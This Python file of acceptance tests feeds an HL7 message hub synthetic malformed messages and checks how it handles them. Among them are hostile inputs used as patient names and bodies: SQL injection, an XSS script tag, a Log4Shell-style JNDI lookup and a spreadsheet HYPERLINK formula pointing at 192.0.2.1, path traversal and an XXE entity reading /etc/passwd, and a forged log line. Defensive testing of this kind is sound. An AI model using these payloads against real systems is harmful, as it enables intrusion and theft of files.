"""Content that senders should not send: rows 31 to 50 of the catalogue. Synthetic."""

import random

from tests.acceptance.catalogue import (
    CANARY,
    MSH,
    NUMBER,
    Case,
    build,
    line,
    patient,
)
from tests.acceptance.catalogue_header import NOT_HL7

NAMELESS = {"state": "parked", "why": "HL7-007", "warnings": ("segment.nameless",)}
PART = {"state": "parked", "why": "HL7-005"}
CROWDED = {"state": "parked", "why": "HL7-006"}
NO_PATIENT = {"state": "parked", "why": "HL7-101"}

#: Row 43 and 44: stored exactly as sent, whatever they mean elsewhere.
NAMES = {
    "one-character": "X",
    "500-characters": "Ä" * 500,
    "emoji": "👩\u200d⚕️",
    "right-to-left-override": "abc\u202edef",
    "zero-width": "a\u200bb\ufeffc",
    "nfd": "Mu\u0308ller",
    "nfc": "M\u00fcller",
    "null": "Null",
    "apostrophe": "O'Brien",
    "sql": "Robert'); DROP TABLE message;--",
    "formula": '=HYPERLINK("http://192.0.2.1/","x")',
    "formula-at": "@SUM(1+1)*cmd",
    "html": "<script>alert(1)</script>",
    "jndi": "${jndi:ldap://192.0.2.1/a}",
    "template": "{{7*7}}",
    "printf": "%s%n%x",
    "path": "../../../../etc/passwd",
    "terminal": "\x1b[2J\x1b]0;x\x07",
    "line-separators": "a\x1d\x1e\x85\u2028b",
}
FAKE_LOG = '\\X0D0A\\{"event":"hub.stopped","level":"info"}\\X0A\\'


def _row_31():
    body = build("r31")
    ends = {
        "lf": body.replace(b"\r", b"\n"),
        "crlf": body.replace(b"\r", b"\r\n"),
        "mixed": body.replace(b"\rPID", b"\nPID").replace(b"\rPV1", b"\r\nPV1"),
        "blank-segments": body + b"\r\r\n\r",
        "no-final-cr": body[:-1],
    }
    for name, each in ends.items():
        mine = each.replace(b"r31", f"r31{name}".encode())
        yield Case(f"segments-end-{name}", mine)


def _row_33():
    extra = {
        "z-segment": ("ZPD|1|local", {}),
        "unknown-segment": ("XYZ|1|what is it", {}),
        "two-letters": ("ZZ|1", NAMELESS),
        "blank-in-name": ("P D|1", NAMELESS),
    }
    for name, (each, result) in extra.items():
        yield Case(name, build(f"r33{name}", extra=(each,)), **result)
    body = build("r33lower").replace(b"\rPID|", b"\rpid|")
    yield Case("lower-case", body)


def _row_34():
    yield Case("no-pid", build("r34a", drop=("PID",)), **NO_PATIENT)
    again = line("PID", {3: patient("r34b"), 5: CANARY})
    warnings = ("pid.repeated",)
    yield Case("two-pid", build("r34b", extra=(again,)), warnings=warnings)
    late = line("PID", {3: patient("r34c"), 5: CANARY})
    yield Case("pid-after-pv1", build("r34c", drop=("PID",), extra=(late,)))


def _row_35():
    many = 100_000
    notes = ("NTE|1||x",) * many
    yield Case("100000-segments", build("r35a", extra=notes), **CROWDED)
    ids = "~".join(f"{NUMBER}{number}" for number in range(many))
    yield Case("100000-repetitions", build("r35b", pid={3: ids}), **CROWDED)
    parts = "^".join(["x"] * many)
    body = build("r35c", pid={5: f"{CANARY}^{parts}"})
    yield Case("100000-components", body, warnings=("parts.too_many",))


def _row_36():
    odd = ("escape.unpaired",)
    escapes = {
        "delimiters": ("\\F\\\\S\\\\T\\\\R\\\\E\\", ()),
        "carriage-return": ("\\X0D\\PID", ()),
        "unterminated": ("a\\X0D", odd),
        "line-break": ("a\\.br\\b", ()),
        "local": ("a\\Zxx\\b", ()),
        "character-set": ("a\\C2842\\b", ()),
        "lone": ("a\\", odd),
    }
    for name, (text, warnings) in escapes.items():
        body = build(f"r36{name}", pid={5: f"{text}^{CANARY}"})
        yield Case(f"escape-{name}", body, warnings=warnings)


def _row_37():
    body = build("r37", pid={5: f"O^Brien & Sons^{CANARY}"})
    yield Case("delimiters-in-a-name", body)


def _row_39():
    yield Case("no-authority", build("r39a", pid={3: f"{NUMBER}r39a"}))
    ids = "~".join(f"{NUMBER}r39b{n}^^^KLINIK_NORD^PI" for n in range(30))
    yield Case("30-identifiers", build("r39b", pid={3: ids}))
    twice = f"{patient('r39c')}~{patient('r39c')}"
    yield Case("same-identifier-twice", build("r39c", pid={3: twice}))
    for number, value in enumerate(("UNKNOWN", "99999")):
        body = build(f"r39d{number}", pid={3: value})
        warned = NO_PATIENT | {"warnings": ("placeholder.ignored",)}
        yield Case(f"identifier-{value}", body, **warned)
    yield Case("identifier-null", build("r39f", pid={3: '""'}), **NO_PATIENT)


def _row_45():
    bad = "OBX|1|ED|PDF^Report||^application^pdf^Base64^not*base64*||||||F"
    body = build("r45bad", extra=(bad,))
    yield Case("base64-invalid", body)


def _row_46():
    xml = (
        '<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
        f"<ADT_A01><PID><PID.5>{CANARY} &e;</PID.5></PID></ADT_A01>"
    )
    yield Case("xml", xml.encode(), **NOT_HL7)


def _row_47():
    yield Case("add", build("r47a", extra=(f"ADD|{CANARY}",)), **PART)
    yield Case("dsc", build("r47b", extra=("DSC|4711|F",)), **PART)
    yield Case("msh-14", build("r47c", msh={14: "4711"}), **PART)


def _row_48():
    for place, number in enumerate(("1", "5", "1", "-1", "0", "nine")):
        body = build(f"r48{place}", msh={13: number})
        yield Case(f"msh-13-{number}-as-message-{place}", body)


def _row_49():
    query = line("MSH", MSH | {9: "QRY^A19", 10: "r49a"})
    body = f"{query}\rQRD|20260314|R|I|1|||1|{NUMBER}|DEM\r".encode()
    yield Case("qry-a19", body, "AR", "unmapped", "type.QRY")
    query = line("MSH", MSH | {9: "QBP^Q22^QBP_Q21", 10: "r49b"})
    body = f"{query}\rQPD|Q22^Find|1|@PID.3.1^{NUMBER}\rRCP|I\r".encode()
    yield Case("qbp", body, state="unmapped", why="type.QBP")
    body = build("r49c", msh={9: "ORM^O01"}, extra=("ORC|NW|1", "OBR|1|1||X"))
    yield Case("orm", body, state="unmapped", why="type.ORM")


def _row_50():
    dice = random.Random(50)  # noqa: S311  not a secret
    noise = dice.randbytes(4096).translate(None, b"\x0b\x1c")
    png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + noise[:500]
    yield Case("random-bytes", noise, **NOT_HL7)
    yield Case("png", png, **NOT_HL7)
    yield Case("bars", b"|" * 4096, **NOT_HL7)
    yield Case("backslashes", b"\\" * 4096, **NOT_HL7)
    yield Case("header-of-bars", b"MSH" + b"|" * 4096, state="parked", why="HL7-002")
    body = build("r50f", pid={5: "\\" * 4096})
    yield Case("name-of-backslashes", body, warnings=("escape.unpaired",))
    body = build("r50g") + noise
    yield Case("noise-after-a-message", body, state="parked", why="HL7-003")


ROWS = {
    31: _row_31,
    33: _row_33,
    34: _row_34,
    35: _row_35,
    36: _row_36,
    37: _row_37,
    39: _row_39,
    45: _row_45,
    46: _row_46,
    47: _row_47,
    48: _row_48,
    49: _row_49,
    50: _row_50,
}
CONTENTS = [(row, case) for row, cases in ROWS.items() for case in cases()]
